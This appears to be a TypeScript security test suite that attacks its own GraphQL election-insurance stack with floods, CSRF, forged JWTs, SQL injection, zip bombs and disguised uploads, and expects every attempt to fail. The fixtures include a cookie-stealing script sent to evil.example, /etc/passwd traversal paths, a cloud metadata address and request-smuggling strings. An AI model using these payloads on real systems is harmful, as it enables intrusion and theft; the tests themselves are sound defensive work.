import { createHmac, generateKeyPairSync, randomUUID, sign } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { connect } from 'node:net';
import { join } from 'node:path';

import { buildSchema } from 'graphql';
import { Client } from 'pg';
import { Upload } from 'tus-js-client';
import { describe, expect } from 'vitest';

import { ROOT } from '../../bin/stack/paths.ts';
import { agreementOf, enrolledOfficer, idOf, POLLING_DAY_ACCIDENT, registerClaim } from '../kit/graph-commands.ts';
import { wholeOf } from '../kit/graph-client.ts';
import type { Ask } from '../kit/graph-client.ts';
import { INJECTIONS, injectionsInto } from '../kit/injections.ts';
import type { Attempt } from '../kit/injections.ts';
import { journey } from '../kit/journey.ts';
import { signInPerson } from '../kit/sign-in.ts';
import type { TestStack } from '../kit/stack.ts';
import { zipOf } from '../kit/zip.ts';

// What somebody would try who means harm, on the whole running system. The table at the end says how much of it was
// tried; whatever gets through fails its test.

const tried = new Map<string, number>();
function count(what: string, more = 1): void {
  tried.set(what, (tried.get(what) ?? 0) + more);
}

journey.afterAll(() => {
  const width = Math.max(...[...tried.keys()].map((what) => what.length));
  const lines = [...tried].map(([what, times]) => `  ${what.padEnd(width)} ${String(times).padStart(6)}`);
  process.stdout.write(`Attacks tried, none got through:\n${lines.join('\n')}\n`);
});

const schema = buildSchema(readFileSync(join(ROOT, 'gateway', 'api.graphql'), 'utf8'));

interface Posted {
  readonly status: number;
  readonly text: string;
  readonly ms: number;
}

async function post(stack: TestStack, body: string, headers: Record<string, string> = {}): Promise<Posted> {
  const startedAt = performance.now();
  const response = await fetch(stack.graphUrl, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...headers },
    body,
  });
  return { status: response.status, text: await response.text(), ms: performance.now() - startedAt };
}

/** The same, asked again where it took long: a busy machine is slow now and then, what is dear to answer always. */
async function quickest(...asked: Parameters<typeof post>): Promise<Posted> {
  let best = await post(...asked);
  for (let again = 0; again < 3 && best.ms >= 2_000; again += 1) {
    const next = await post(...asked);
    if (next.ms < best.ms) best = next;
  }
  return best;
}

const times = (n: number, make: (index: number) => string): string =>
  Array.from({ length: n }, (_, i) => make(i)).join(' ');
const nested = (n: number): string => `${'children(first: 1) { edges { node { '.repeat(n)}code${' } } }'.repeat(n)}`;

describe('floods', () => {
  const floods: readonly (readonly [what: string, query: string, status: number])[] = [
    ['61 aliases', `{ ${times(61, (i) => `a${i}: __typename`)} }`, 400],
    ['4,000 aliases', `{ ${times(1_600, (i) => `a${i}: __typename`)} }`, 400],
    ['20,000 aliases', `{ ${times(20_000, (i) => `a${i}: __typename`)} }`, 400],
    ['21 fields at the root', `{ ${times(21, (i) => `a${i}: provinces { code }`)} }`, 400],
    ['16 levels', `{ region(code: "32") { ${nested(5)} } }`, 400],
    ['300 levels', `{ region(code: "32") { ${nested(100)} } }`, 400],
    ['100,000 open brackets', '{a'.repeat(100_000), 400],
    ['100,000 nested lists in an argument', `{ region(code: ${'['.repeat(100_000)}`, 400],
    [
      'a chain of 30 fragments',
      `{ region(code: "32") { ...F0 } } ${times(30, (i) => `fragment F${i} on Region { children(first: 1) { edges { node { ...F${i + 1} } } } }`)} fragment F30 on Region { code }`,
      400,
    ],
    [
      'fragments that double 60 times',
      `{ region(code: "32") { ...F0 } } ${times(60, (i) => `fragment F${i} on Region { ...F${i + 1} ...F${i + 1} }`)} fragment F60 on Region { code }`,
      400,
    ],
    ['a fragment that contains itself', '{ region(code: "32") { ...F } } fragment F on Region { code ...F }', 400],
    [
      'fragments that contain each other',
      '{ region(code: "32") { ...A } } fragment A on Region { ...B } fragment B on Region { ...A }',
      400,
    ],
    [
      '400 names of one field with arguments that differ',
      `{ ${times(400, (i) => `region(code: "${i}") { code }`)} }`,
      400,
    ],
    ['1,200 directives', `{ region(code: "32") { code ${times(600, () => '@skip(if: false)')} } }`, 400],
    [
      'a schema within a schema',
      `{ __schema { types { fields { type { fields { type { fields { type { fields { type { name } } } } } } } } } } }`,
      400,
    ],
    ['500 mistakes', `{ ${times(500, (i) => `x${i}`)} }`, 400],
    [
      'pages within pages, 100 each',
      `{ institutions(first: 100) { edges { node { agreements(first: 100) { edges { node { enrolments(first: 100) { edges { node { id } } } } } } } } } }`,
      400,
    ],
  ];

  journey('of one request are refused at once, and the next one is answered', async ({ stack }) => {
    const authorization = `Bearer ${await signInPerson(stack, 'admin')}`;
    for (const [what, query, status] of floods) {
      const { status: is, text, ms } = await quickest(stack, JSON.stringify({ query }), { authorization });
      expect([what, is, text.slice(0, 200)]).toEqual([what, status, expect.stringContaining('"errors"')]);
      expect(text.length, what).toBeLessThan(20_000);
      expect(ms, `${what}: milliseconds`).toBeLessThan(2_000);
      count('floods of names, levels, fragments, pages');
    }
    const one = { query: '{ session { role } }' };
    for (const batch of [[one, one], Array.from({ length: 5_000 }, () => one), [], [[one]]]) {
      expect((await post(stack, JSON.stringify(batch), { authorization })).status).toBe(400);
      count('batches');
    }
    expect(await post(stack, JSON.stringify(one), { authorization })).toMatchObject({ status: 200 });
  });

  journey('of variables are refused, or cost no more than they are long', async ({ stack }) => {
    const authorization = `Bearer ${await signInPerson(stack, 'admin')}`;
    const query =
      'query ($s: String, $f: AgreementFilter) { institutions(search: $s, first: 1) { edges { node { code } } } agreements(filter: $f, first: 1) { edges { cursor } } }';
    const bodies: readonly (readonly [string, string, number])[] = [
      ['two megabytes', JSON.stringify({ query, variables: { s: 'x'.repeat(2_000_000) } }), 413],
      [
        '200,000 lists within lists',
        `{"query": ${JSON.stringify(query)}, "variables": {"s": ${'['.repeat(200_000)}${']'.repeat(200_000)}}}`,
        400,
      ],
      [
        '20,000 objects within objects',
        `{"query": ${JSON.stringify(query)}, "variables": {"f": ${'{"search":'.repeat(20_000)}1${'}'.repeat(20_000)}}}`,
        400,
      ],
      [
        '100,000 variables that nobody asked for',
        JSON.stringify({
          query,
          variables: Object.fromEntries(Array.from({ length: 60_000 }, (_, i) => [`v${i}`, i])),
        }),
        200,
      ],
      [
        'a prototype',
        `{"query": ${JSON.stringify(query)}, "variables": {"__proto__": {"s": "x"}, "f": {"__proto__": {"search": "x"}}}}`,
        400,
      ],
      ['variables that are a list', JSON.stringify({ query, variables: [1] }), 400],
      ['numbers beyond numbers', `{"query": ${JSON.stringify(query)}, "variables": {"s": 1e999999}}`, 400],
    ];
    for (const [what, body, status] of bodies) {
      const { status: is, ms, text } = await quickest(stack, body, { authorization });
      expect([what, is, /INTERNAL/.exec(text)?.[0]]).toEqual([what, status, undefined]);
      expect(ms, `${what}: milliseconds`).toBeLessThan(2_000);
      count('huge or crooked variables');
    }
  });
});

journey('a page of another site can send nothing that runs (CSRF)', async ({ stack }) => {
  const authorization = `Bearer ${await signInPerson(stack, 'admin')}`;
  const body = JSON.stringify({ query: '{ session { role } }' });
  const simple = [
    'text/plain',
    'application/x-www-form-urlencoded',
    'multipart/form-data; boundary=x',
    'text/plain; application/json',
    'application/graphql',
    '',
  ];
  for (const type of simple) {
    const { status, text } = await post(stack, body, { 'content-type': type, authorization });
    expect([type, status >= 400 && status < 500, text]).toEqual([type, true, expect.not.stringContaining('"data":{')]);
    count('cross-site requests');
  }
  for (const address of [
    `?query=${encodeURIComponent('{session{role}}')}`,
    `?query=${encodeURIComponent('mutation{x}')}&operationName=x`,
  ]) {
    const response = await fetch(`${stack.graphUrl}${address}`, { headers: { authorization } });
    expect([response.status, await response.text()]).toEqual([405, expect.not.stringContaining('"data"')]);
    count('cross-site requests');
  }
  const preflight = await fetch(stack.graphUrl, {
    method: 'OPTIONS',
    headers: {
      origin: 'https://evil.example',
      'access-control-request-method': 'POST',
      'access-control-request-headers': 'content-type',
    },
  });
  expect(preflight.headers.get('access-control-allow-origin')).toBeNull();
  count('cross-site requests');
});

journey('no token that the issuer did not make is taken, by the gateway or by an owner', async ({ stack }) => {
  const genuine = await signInPerson(stack, 'kpu');
  const [header = '', claims = '', signature = ''] = genuine.split('.');
  const read = (part: string): Record<string, unknown> =>
    JSON.parse(Buffer.from(part, 'base64url').toString()) as Record<string, unknown>;
  const encode = (part: unknown): string => Buffer.from(JSON.stringify(part)).toString('base64url');
  const promoted = encode({
    ...read(claims),
    payung_role: 'NATIONAL_ADMIN',
    payung_regions: ['ID'],
    payung_institution: undefined,
  });
  const { keys } = (await (await fetch(`${stack.issuer}/jwks`)).json()) as { keys: [Record<string, string>] };
  const jwk = JSON.stringify(keys[0]);
  const ours = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const bySomebody = (head: object): string => {
    const text = `${encode(head)}.${promoted}`;
    return `${text}.${sign('sha256', Buffer.from(text), { key: ours.privateKey, dsaEncoding: 'ieee-p1363' }).toString('base64url')}`;
  };
  const hmac = (alg: string, digest: string, secret: string): string => {
    const text = `${encode({ ...read(header), alg })}.${promoted}`;
    return `${text}.${createHmac(digest, secret).update(text).digest('base64url')}`;
  };
  const own = ours.publicKey.export({ format: 'jwk' });
  const forged: Readonly<Record<string, string>> = {
    'another payload under a genuine signature': `${header}.${promoted}.${signature}`,
    'no signature': `${header}.${promoted}.`,
    'alg none': `${encode({ ...read(header), alg: 'none' })}.${promoted}.`,
    'alg NONE': `${encode({ ...read(header), alg: 'NONE' })}.${promoted}.${signature}`,
    'no alg': `${encode({ ...read(header), alg: undefined })}.${promoted}.${signature}`,
    'HS256 with the public key': hmac('HS256', 'sha256', jwk),
    'HS512 with the public key': hmac('HS512', 'sha512', jwk),
    'HS256 with nothing': hmac('HS256', 'sha256', ''),
    'another key under the issuer’s key id': bySomebody({ ...read(header), alg: 'ES256' }),
    'a key in the header': bySomebody({ alg: 'ES256', jwk: own }),
    'a key id that is a path': bySomebody({ alg: 'ES256', kid: '../../../../dev/null' }),
    'a key id that is SQL': bySomebody({ alg: 'ES256', kid: "' union select 'x" }),
    'a key at another address': bySomebody({ alg: 'ES256', jku: 'https://evil.example/jwks' }),
    'a critical extension': bySomebody({ ...read(header), alg: 'ES256', crit: ['exp'] }),
    'five parts': `${genuine}.${header}.${claims}`,
    'nothing at all': '...',
    'half a megabyte': 'x'.repeat(12_000),
  };
  const addresses = [
    stack.graphUrl,
    ...(['agreements', 'participants', 'claims'] as const).map((owner) => `${stack.urls[owner]}/graphql`),
  ];
  for (const url of addresses) {
    for (const [what, token] of Object.entries(forged)) {
      const response = await fetch(url, {
        method: 'POST',
        headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
        body: JSON.stringify({ query: '{ __typename }' }),
      });
      expect([url, what, response.status, await response.text()]).toEqual([
        url,
        what,
        401,
        expect.stringContaining('UNAUTHENTICATED'),
      ]);
      count('forged tokens, at the gateway and at each owner');
    }
  }
});

describe('texts that mean something to SQL', () => {
  const AT_ONCE = 6;

  journey(
    'in every text argument of every field at the root do nothing, and nothing is said of SQL',
    async ({ stack, as }) => {
      const ask = await as('admin');
      const kpu = await as('kpu');
      const { person, participantId, enrolmentId } = await enrolledOfficer(kpu);
      const claimId = idOf(await registerClaim(kpu, { ...POLLING_DAY_ACCIDENT, enrolmentId }));
      const agreementId = await agreementOf(kpu, '32.04');
      const before = await tablesOf(stack);
      const all = injectionsInto(
        schema,
        {
          id: agreementId,
          'claim.id': claimId,
          'enrolment.id': enrolmentId,
          'participant.id': participantId,
          'node.id': participantId,
          agreementId,
          claimId,
          enrolmentId,
          participantId,
          nik: person.nik,
          name: person.name,
          birthDate: person.birthDate,
          regionCode: '32.04.11.2001',
          institutionCode: 'kpu-32.04',
          categoryCode: 'PETUGAS_TPS',
          code: '32.04',
          provinceCode: '32',
          // What is about an election that there is not writes nothing down.
          electionCode: 'PEMILU-1900',
          expectedVersion: 999_999,
          reason: 'Percobaan serangan (peraga)',
          idempotencyKey: 'attack-0000-0000',
        },
        1,
      );
      // Keys of all mutations are read by one function: a few of them say as much.
      const keys = all.filter(({ place }) => place === 'idempotencyKey');
      const attempts = [...all.filter(({ place }) => place !== 'idempotencyKey'), ...keys.slice(0, INJECTIONS.length)];
      expect(attempts.length).toBeGreaterThan(400);
      const found: string[] = [];
      for (const [operation, perRequest] of [
        ['query', 15],
        // Of several mutations the rest is not run when one fails.
        ['mutation', 1],
      ] as const) {
        const calls = attempts.filter((attempt) => attempt.operation === operation);
        const requests = Array.from({ length: Math.ceil(calls.length / perRequest) }, (_, index) =>
          calls.slice(index * perRequest, (index + 1) * perRequest),
        );
        await Promise.all(
          Array.from({ length: AT_ONCE }, async () => {
            for (let next = requests.pop(); next !== undefined; next = requests.pop())
              found.push(...(await whatComesOf(ask, operation, next)));
          }),
        );
        count(`SQL and paths in arguments of a ${operation}`, calls.length);
      }
      expect(found).toEqual([]);
      const after = await tablesOf(stack);
      expect(Object.keys(after)).toEqual(Object.keys(before));
      const fewer = Object.entries(before).filter(([table, rows]) => (after[table] ?? 0) < rows);
      expect(fewer).toEqual([]);
    },
  );

  /** What should not come of it. */
  async function whatComesOf(ask: Ask, operation: string, calls: readonly Attempt[]): Promise<readonly string[]> {
    const fields = calls.map(({ call, field }, index) => {
      const type = (operation === 'query' ? schema.getQueryType() : schema.getMutationType())?.getFields()[field]?.type;
      const named = String(type).replaceAll(/[[\]!]/g, '');
      const isObject = schema.getType(named) !== undefined && !['String', 'Boolean', 'Int', 'ID'].includes(named);
      // Each call has a key of its own, so that none answers for another.
      return `a${index}: ${call.replace('attack-0000-0000', randomUUID())}${isObject ? ' { __typename }' : ''}`;
    });
    const startedAt = performance.now();
    const { errors, text } = await ask(`${operation} { ${fields.join(' ')} }`);
    const about = calls.map(({ field, place }) => `${field}.${place}`).join(', ');
    const ms = performance.now() - startedAt;
    return [
      ...errors
        .filter(({ extensions }) => !HARMLESS.has(extensions.code))
        .map(({ extensions: { code, requestId } }) => `${about}: ${code} ${requestId}`),
      ...(SQL_SPEAKS.test(text) ? [`${about}: ${text}`] : []),
      ...(ms > 15_000 ? [`${about}: ${ms} ms`] : []),
    ];
  }

  const HARMLESS = new Set(['BAD_USER_INPUT', 'FORBIDDEN']);
  const SQL_SPEAKS =
    /syntax error|SQLSTATE|pg_|relation \\?"|column \\?"|violates|QueryFailed|unterminated|invalid input|usename/i;

  async function tablesOf({ databases }: TestStack): Promise<Readonly<Record<string, number>>> {
    const found: Record<string, number> = {};
    for (const owner of ['agreements', 'participants', 'claims'] as const) {
      const client = new Client({ connectionString: databases[owner] });
      await client.connect();
      const { rows } = await client.query<{ table: string }>(
        `select table_name as table from information_schema.tables where table_schema = 'public' and table_type = 'BASE TABLE' order by 1`,
      );
      for (const { table } of rows) {
        // Jobs come and go by themselves.
        const counted = await client
          .query<{ rows: number }>(`select count(*)::int as rows from "${table}"`)
          .catch(() => undefined);
        if (counted !== undefined) found[`${owner}.${table}`] = counted.rows[0]?.rows ?? 0;
      }
      await client.end();
    }
    return found;
  }
});

describe('files', () => {
  journey(
    'a workbook that unpacks to two hundred times its size is refused, whatever it says, and the worker goes on',
    async ({ stack, as }) => {
      const ask = await as('kpu');
      const agreementId = await agreementOf(ask, '32.04');
      const archive = (claims: object) =>
        zipOf([
          { name: '[Content_Types].xml', content: '<Types/>' },
          { name: 'xl/workbook.xml', content: WORKBOOK },
          { name: 'xl/_rels/workbook.xml.rels', content: RELATIONS },
          { name: 'xl/worksheets/sheet1.xml', content: Buffer.alloc(96 * 1024 * 1024, '<row/>'), ...claims },
        ]);
      type Opened = { requestRosterUpload: { id?: string; code?: string; upload?: { url: string } } };
      const open = async (fileName: string, fileSize: number) =>
        wholeOf(
          await ask<Opened>(
            'mutation ($input: RequestRosterUploadInput!, $key: ID!) { requestRosterUpload(input: $input, idempotencyKey: $key) { ... on RosterImport { id upload { url } } ... on RosterImportRefused { code } } }',
            { input: { agreementId, fileName, fileSize }, key: randomUUID() },
          ),
        ).requestRosterUpload;
      expect(await open('../../../../etc/cron.d/bomb.xlsx', 1_000)).toEqual({ code: 'INVALID' });
      type Read = { rosterImport: { stage: string; failure: { code: string } | null } };
      const read = async (id: string) =>
        wholeOf(await ask<Read>('query ($id: ID!) { rosterImport(id: $id) { stage failure { code } } }', { id }))
          .rosterImport;
      for (const [bomb, code] of [
        [archive({}), 'COMPRESSED_BEYOND_REASON'],
        // It says that it is small.
        [archive({ claims: 1_000 }), 'UNREADABLE'],
      ] as const) {
        expect(bomb.length).toBeLessThan(500_000);
        const { id, upload } = await open('bomb.xlsx', bomb.length);
        if (id === undefined || upload === undefined) throw new Error('the import was not opened');
        await new Promise<void>((resolve, reject) => {
          new Upload(bomb as never, {
            uploadUrl: new URL(upload.url, stack.url).href,
            uploadSize: bomb.length,
            onSuccess: () => resolve(),
            onError: reject,
          }).start();
        });
        await expect
          .poll(() => read(id), { timeout: 30_000, interval: 300 })
          .toMatchObject({ stage: 'FAILED', failure: { code } });
        count('zip bombs');
      }
    },
  );

  journey('a file is what its bytes are, whatever it is called', async ({ stack, as }) => {
    const ask = await as('kpu');
    const agreementId = await agreementOf(ask, '32.04');
    const authorization = `Bearer ${await signInPerson(stack, 'kpu')}`;
    const html = '<html><script>fetch("//evil.example/" + document.cookie)</script></html>';
    for (const [fileName, bytes, type] of [
      ['PKS.pdf', Buffer.from(html), 'application/pdf'],
      ['PKS.pdf', Buffer.from('MZ\u0090\u0000 not a document'), 'application/pdf'],
      ['../../../admin-ui/dist/index.html', Buffer.from(html), 'text/html'],
      ['..\\..\\PKS.pdf\u0000.html', Buffer.from('<svg onload="alert(1)"/>'), 'image/svg+xml'],
      ['PKS.pdf', zipOf([{ name: '../../evil.sh', content: 'x' }]), 'application/pdf'],
    ] as const) {
      type Data = { requestDocumentUpload: { url?: string; code?: string } };
      const { data, errors } = await ask<Data>(
        'mutation ($input: DocumentUploadInput!, $key: ID!) { requestDocumentUpload(input: $input, idempotencyKey: $key) { ... on DocumentUpload { url } ... on DocumentRefused { code } } }',
        {
          input: { agreementId, kind: 'SIGNED_TEXT', title: 'Naskah (peraga)', fileName, bytes: bytes.length },
          key: randomUUID(),
        },
      );
      count('files that are not what they say');
      const url = data?.requestDocumentUpload.url;
      // A name that cannot be kept gets no address.
      if (fileName.includes('\u0000') && url === undefined) {
        expect(errors.map(({ extensions }) => extensions.code)).toEqual(['BAD_USER_INPUT']);
        continue;
      }
      if (url === undefined) throw new Error(`no address for ${fileName}`);
      const sent = await fetch(new URL(url, stack.url), {
        method: 'PUT',
        body: bytes,
        headers: { authorization, 'content-type': type },
      });
      expect([fileName, sent.status >= 400 && sent.status < 500, await sent.json()]).toEqual([
        fileName,
        true,
        expect.not.objectContaining({ document: expect.anything() }),
      ]);
    }
  });

  journey('no address leads out of where it belongs', async ({ stack }) => {
    const { port, hostname } = new URL(stack.url);
    const addresses = [
      '/../../../../etc/passwd',
      '/assets/../../../../../etc/passwd',
      '/assets/..%2f..%2f..%2f..%2fetc%2fpasswd',
      '/assets/%2e%2e/%2e%2e/%2e%2e/etc/passwd',
      '/assets/..%5c..%5c..%5cetc%5cpasswd',
      '/assets/%252e%252e%252f%252e%252e%252fetc/passwd',
      '/boundaries/../../../../etc/passwd',
      '/uploads/agreements/../graphql',
      '/downloads/agreements/%2e%2e/graphql',
      '/downloads/claims/..%2fhealthz',
      '/downloads/../../etc/passwd',
      '/uploads/identity/token',
      '/uploads/agreements/%00',
      'http://169.254.169.254/latest/meta-data',
      '//evil.example/%2f..',
    ];
    for (const path of addresses) {
      const answer = await rawRequest(
        hostname,
        Number(port),
        `GET ${path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`,
      );
      expect([path, Number(/^HTTP\/1\.1 (\d+)/.exec(answer)?.[1]) >= 400, answer.includes('root:')]).toEqual([
        path,
        true,
        false,
      ]);
      count('paths that lead elsewhere');
    }
    for (const smuggled of [
      'POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /healthz HTTP/1.1\r\n\r\n',
      'POST /graphql HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: xchunked\r\n\r\n',
      'POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nx',
      `GET / HTTP/1.1\r\nHost: x\r\nX: ${'x'.repeat(70_000)}\r\n\r\n`,
    ]) {
      expect(await rawRequest(hostname, Number(port), smuggled)).toMatch(/^HTTP\/1\.1 4\d\d/);
      count('requests within requests');
    }
  });
});

const WORKBOOK = '<workbook xmlns:r="r"><sheets><sheet name="A" sheetId="1" r:id="rId1"/></sheets></workbook>';
const RELATIONS =
  '<Relationships><Relationship Id="rId1" Type="worksheet" Target="worksheets/sheet1.xml"/></Relationships>';

/** Sends bytes as they are, and answers what came until the other side closed. */
function rawRequest(host: string, port: number, bytes: string): Promise<string> {
  return new Promise((resolve, reject) => {
    let answer = '';
    const socket = connect(port, host, () => socket.write(bytes));
    socket.setTimeout(5_000, () => socket.destroy(new Error('no answer')));
    socket.on('data', (chunk: Buffer) => {
      answer += chunk.toString('latin1');
      if (answer.includes('\r\n\r\n')) socket.end();
    });
    socket.on('close', () => resolve(answer));
    socket.on('error', (error) => (answer === '' ? reject(error) : resolve(answer)));
  });
}
